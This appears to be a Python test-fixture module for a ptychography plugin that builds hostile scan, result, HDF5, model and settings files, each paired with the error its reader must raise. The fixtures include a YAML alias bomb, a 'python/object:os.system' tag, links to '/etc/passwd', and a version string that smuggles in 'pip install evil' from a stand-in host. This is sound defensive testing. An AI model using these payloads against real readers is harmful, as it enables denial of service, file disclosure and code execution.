"""Hostile files of every format, each with the error that a reader must raise for it."""

from __future__ import annotations

import io
import json
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import numpy as np

from ptychopinn_plugin.io.model_file import save_model
from ptychopinn_plugin.io.npz_reconstruction import save_npz_reconstruction
from ptychopinn_plugin.io.npz_scan_writer import scan_arrays
from ptychopinn_plugin.io.result_files import save_reconstruction
from tests.helpers import make_scan
from tests.io.result_examples import known_reconstruction
from tests.io.test_model_file import small_model

GIGABYTES_10 = 10 * 2**30


@dataclass(frozen=True)
class Hostile:
    """A file and what its reader must say.

    Attributes:
        file: name, whose ending says the format.
        write: writes it.
        words: a pattern of the message.
    """

    file: str
    write: Callable[[Path], None]
    words: str


def scan_members(**changed: Any) -> dict[str, Any]:
    """Return the members of a small scan, some of them changed; None leaves one out."""
    members = scan_arrays(make_scan(side=3, frame_size=8, step_px=2.0)) | changed
    return {name: value for name, value in members.items() if value is not None}


def write_scan(path: Path, **changed: Any) -> None:
    """Write a small scan, some of its members changed."""
    np.savez_compressed(path, allow_pickle=True, **scan_members(**changed))


def add_member(path: Path, name: str, shape: tuple[int, ...], dtype: str, content: bytes) -> None:
    """Add an array with a header and a content of choice to an .npz, or replace one."""
    head = io.BytesIO()
    header = {'descr': dtype, 'fortran_order': False, 'shape': shape}
    np.lib.format.write_array_header_1_0(head, header)
    with zipfile.ZipFile(path, 'a', zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f'{name}.npy', head.getvalue() + content)


def many_positions(path: Path) -> None:
    """Write a scan of nine frames with millions of positions, a few kilobytes when compressed."""
    zeros = np.zeros(3_000_000)
    write_scan(path, xcoords=zeros, ycoords=zeros)


def promised_frames(path: Path) -> None:
    """Write a scan whose frames are promised and not there."""
    write_scan(path, diffraction=None)
    add_member(path, 'diffraction', (400_000, 256, 256), '<f4', bytes(64))


def long_header(path: Path) -> None:
    """Write a scan with a member whose header is as long as the format allows."""
    write_scan(path, probeGuess=None)
    with zipfile.ZipFile(path, 'a', zipfile.ZIP_DEFLATED) as archive:
        head = b'\x93NUMPY\x02\x00' + struct.pack('<I', 2**26)
        archive.writestr('probeGuess.npy', head + b' ' * 2**26)


def change_flags(path: Path, place: int, value: int) -> None:
    """Write a scan and set two bytes of every entry of its directory."""
    write_scan(path)
    content = bytearray(path.read_bytes())
    start = -1
    while (start := content.find(b'PK\x01\x02', start + 1)) >= 0:
        content[start + place : start + place + 2] = struct.pack('<H', value)
    path.write_bytes(content)


def write_result(path: Path, **changed: Any) -> None:
    """Write a result, some of its arrays changed; None leaves one out."""
    _, result = known_reconstruction()
    save_npz_reconstruction(path, result)
    with np.load(path) as file:
        arrays = dict(file) | changed
    kept = {name: value for name, value in arrays.items() if value is not None}
    np.savez(path, allow_pickle=True, **kept)


def change_product(path: Path, change: Callable[[h5py.File], None]) -> None:
    """Write a product and change it."""
    scan, result = known_reconstruction()
    save_reconstruction(path, result, scan)
    with h5py.File(path, 'r+') as file:
        change(file)


def replace(name: str, **dataset: Any) -> Callable[[h5py.File], None]:
    """Return a change that makes a dataset anew, with the attributes of the old one."""

    def change(file: h5py.File) -> None:
        attributes = dict(file[name].attrs)
        del file[name]
        made = file.create_dataset(name, **dataset)
        made.attrs.update(attributes)

    return change


def link(name: str, filename: str, target: str) -> Callable[[h5py.File], None]:
    """Return a change that puts an external link in the place of a dataset."""

    def change(file: h5py.File) -> None:
        del file[name]
        file[name] = h5py.ExternalLink(filename, target)

    return change


def chain_of_links(file: h5py.File) -> None:
    """Put a circle of soft links in the place of the probe."""
    del file['probe']
    file['probe'], file['other'] = h5py.SoftLink('/other'), h5py.SoftLink('/probe')


def virtual(file: h5py.File) -> None:
    """Put a view of another file in the place of the object."""
    layout = h5py.VirtualLayout(file['object'].shape, file['object'].dtype)
    layout[...] = h5py.VirtualSource('/etc/secret.h5', 'object', file['object'].shape)
    attributes = dict(file['object'].attrs)
    del file['object']
    file.create_virtual_dataset('object', layout)
    file['object'].attrs.update(attributes)


def write_model(path: Path, **metadata: str) -> None:
    """Write a model with metadata of choice."""
    save_model(path, small_model())
    content = path.read_bytes()
    length = int.from_bytes(content[:8], 'little')
    head = json.loads(content[8 : 8 + length])
    head['__metadata__'].update(metadata)
    text = json.dumps(head).encode()
    text += b' ' * (-len(text) % 8)
    path.write_bytes(len(text).to_bytes(8, 'little') + text + content[8 + length :])


def write_manifest(path: Path, **changed: Any) -> None:
    """Write a model with fields of choice in its manifest."""
    fields = small_model().manifest.model_dump(mode='json') | changed
    write_model(path, manifest=json.dumps(fields))


def text(content: str) -> Callable[[Path], None]:
    """Return a writer of a text."""

    def write(path: Path) -> None:
        path.write_text(content, encoding='utf-8')

    return write


BOMB = 'a0: &a0 [x, x]\n' + ''.join(
    f'a{n}: &a{n} [{", ".join([f"*a{n - 1}"] * 9)}]\n' for n in range(1, 12)
)
MERGES = 'm0: &m0 {x: 1}\n' + ''.join(
    f'm{n}: &m{n}\n  <<: [{", ".join([f"*m{n - 1}"] * 9)}]\n' for n in range(1, 12)
)
DEEP = '[' * 100_000
INDEX = '; pip install evil --index-url http://evil.example'

HOSTILE = {
    # Scans.
    'many positions': Hostile('s.npz', many_positions, 'coords.* has 3000000 values'),
    'promised frames': Hostile('s.npz', promised_frames, "'diffraction' is damaged"),
    'a long header': Hostile('s.npz', long_header, 'header of 67108864 bytes'),
    'a large probe': Hostile(
        's.npz',
        lambda path: write_scan(path, probeGuess=np.zeros((700, 100, 100), np.complex64)),
        "'probeGuess' has shape",
    ),
    'a large mask': Hostile(
        's.npz',
        lambda path: write_scan(path, bad_pixels=np.zeros((2000, 2000), np.bool_)),
        "'bad_pixels' must have the shape",
    ),
    'many words': Hostile(
        's.npz',
        lambda path: write_scan(path, measurement_domain=np.full(10**6, 'counts')),
        'measurement_domain must be',
    ),
    'encryption': Hostile('s.npz', lambda path: change_flags(path, 8, 1), 'damaged'),
    'compression': Hostile('s.npz', lambda path: change_flags(path, 10, 99), 'compression method'),
    'huge nphotons': Hostile(
        's.npz',
        lambda path: write_scan(
            path, nphotons=None, _metadata=np.array('{"nphotons": 1' + '0' * 400 + '}')
        ),
        'nphotons.* got inf',
    ),
    'escapes in names': Hostile(
        's.npz',
        lambda path: write_scan(path, diffraction=None, **{'\x1b[31mred\u202e': np.zeros(1)}),
        r"neither 'diffraction'.*\\x1b\[31mred\\u202e",
    ),
    'objects': Hostile(
        's.npz',
        lambda path: write_scan(path, xcoords=np.array([{}] * 9, object)),
        'holds Python objects',
    ),
    # Results.
    'a member that is no array': Hostile(
        'r.npz', lambda path: _text_member(path, 'residual'), "'residual'.*damaged"
    ),
    'a third origin': Hostile(
        'r.npz', lambda path: write_result(path, origin_px=np.arange(3)), 'origin_px'
    ),
    'few stages': Hostile(
        'r.npz', lambda path: write_result(path, stages=np.array(['solver'])), 'stages'
    ),
    'no pixel size': Hostile(
        'r.npz', lambda path: write_result(path, pixel_size_m=np.zeros(2)), 'pixel_size_m'
    ),
    'a pixel size that is not finite': Hostile(
        'r.npz', lambda path: write_result(path, pixel_size_m=np.array([1e-9, np.nan])), 'pixel_s'
    ),
    'escapes in a warning': Hostile(
        'r.npz', lambda path: write_result(path, warning=np.array('\x1b]0;x\x07')), "'warning'"
    ),
    'many stages': Hostile(
        'r.npz',
        lambda path: write_result(
            path, stages=np.array([str(n) for n in range(100)]), residual=np.ones(100)
        ),
        'different names',
    ),
    # Products.
    'an object that was never stored': Hostile(
        'p.h5',
        lambda path: change_product(
            path,
            replace('object', shape=(1, 36_000, 36_000), dtype='c8', chunks=(1, 1000, 1000)),
        ),
        "'object' of shape .* was never stored",
    ),
    'many positions of a product': Hostile(
        'p.h5',
        lambda path: change_product(
            path, replace('probe_position_x_m', data=np.zeros(10**6 + 1), compression='gzip')
        ),
        'not as much to list',
    ),
    'an external link': Hostile(
        'p.h5',
        lambda path: change_product(path, link('object', '/etc/secret.h5', '/object')),
        'only files of the same folder',
    ),
    'an external link to the folder above': Hostile(
        'p.h5',
        lambda path: change_product(path, link('probe', '../secret.h5', '/probe')),
        'only files of the same folder',
    ),
    'external storage': Hostile(
        'p.h5',
        lambda path: change_product(
            path,
            replace('probe', shape=(1, 4, 4), dtype='c8', external=[('/etc/passwd', 0, 128)]),
        ),
        "lies in the file '/etc/passwd'",
    ),
    'a virtual dataset': Hostile(
        'p.h5', lambda path: change_product(path, virtual), 'only files of the same folder'
    ),
    'a circle of links': Hostile(
        'p.h5', lambda path: change_product(path, chain_of_links), 'too many links'
    ),
    'references': Hostile(
        'p.h5',
        lambda path: change_product(path, replace('loss_values', shape=(4,), dtype=h5py.ref_dtype)),
        'where numbers are needed',
    ),
    'values of variable length': Hostile(
        'p.h5',
        lambda path: change_product(
            path, replace('probe', shape=(1, 4, 4), dtype=h5py.vlen_dtype(np.float32))
        ),
        'where numbers are needed',
    ),
    'an attribute of references': Hostile(
        'p.h5',
        lambda path: change_product(
            path, lambda file: file['object'].attrs.create('pixel_width_m', file['probe'].ref)
        ),
        'another form than is needed',
    ),
    # Models.
    'an index of packages': Hostile(
        'm.safetensors',
        lambda path: write_manifest(path, format_version=9, package_version='1.0' + INDEX),
        'of an unknown version; this version reads format 2$',
    ),
    'a deep manifest': Hostile(
        'm.safetensors', lambda path: write_model(path, manifest=DEEP), 'nested too deeply'
    ),
    'a long number': Hostile(
        'm.safetensors',
        lambda path: write_model(path, manifest='{"format_version": ' + '9' * 5000 + '}'),
        'without the manifest',
    ),
    'surrogates': Hostile(
        'm.safetensors',
        lambda path: write_manifest(path, format_version='\ud800\x1b[2J'),
        r'\\ud800',
    ),
    # Settings.
    'aliases': Hostile('c.yaml', text(BOMB), 'no aliases'),
    'merged aliases': Hostile('c.yaml', text(MERGES), 'no aliases'),
    'a deep list': Hostile('c.yaml', text('a: ' + DEEP), 'nested too deeply'),
    'deep tables': Hostile('c.toml', text('a = ' + DEEP), 'no file of settings'),
    'a tag': Hostile('c.yaml', text('epochs: !!python/object:os.system x'), 'constructor'),
    'a broken tag': Hostile('c.yaml', text('epochs: !!int ""'), 'no file of settings'),
    'a broken time': Hostile('c.yaml', text('epochs: !!timestamp x'), 'no file of settings'),
    'a long hexadecimal number': Hostile(
        'c.yaml', text('epochs: 0x' + 'f' * 20_000), 'is too large'
    ),
    'a long key': Hostile('c.yaml', text('? 0x' + 'f' * 20_000 + '\n: 1'), 'must be a word'),
    'a list for a key': Hostile('c.yaml', text('? [a, b]\n: 1'), 'another form than is needed'),
    'escapes in a name': Hostile('c.yaml', text('"\\e[31m\\ud800": 1'), r'\\x1b'),
    'a large file': Hostile('c.toml', text('#' * 600_000), 'larger than'),
}


def _text_member(path: Path, name: str) -> None:
    write_result(path, **{name: None})
    with zipfile.ZipFile(path, 'a') as archive:
        archive.writestr(f'{name}.npy', 'hello')
